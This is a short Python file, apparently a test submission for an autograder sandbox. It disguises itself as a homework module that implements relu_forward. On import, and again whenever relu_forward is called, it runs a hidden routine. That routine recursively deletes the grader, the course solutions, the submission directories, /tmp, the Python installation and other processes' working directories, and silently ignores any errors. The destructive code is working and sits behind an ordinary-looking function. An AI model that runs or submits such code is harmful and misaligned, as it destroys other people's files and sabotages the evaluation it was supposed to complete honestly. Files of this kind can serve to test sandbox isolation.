"""Attack: delete whatever can be reached: the grader, the course, the student's own files."""
import os
import shutil
import sys

import numpy as np


def _wreck():
    targets = [os.getcwd(), os.path.dirname(os.path.abspath(__file__)), "/staged", "/grader", "/submission",
               "/tmp", "/work", sys.prefix, os.path.dirname(os.__file__)]
    targets += [f"/proc/{pid}/cwd" for pid in os.listdir("/proc") if pid.isdigit()]
    for target in targets:
        for name in ("course.yml", "solutions", "autograder", "assignments", "a0_foundations", "."):
            path = os.path.join(target, name)
            try:
                if os.path.isdir(path) and not os.path.islink(path):
                    shutil.rmtree(path)
                else:
                    os.remove(path)
            except OSError:
                pass


_wreck()


def relu_forward(x):
    _wreck()
    return np.where(x > 0, x, 0).astype(x.dtype, copy=False), x.copy()
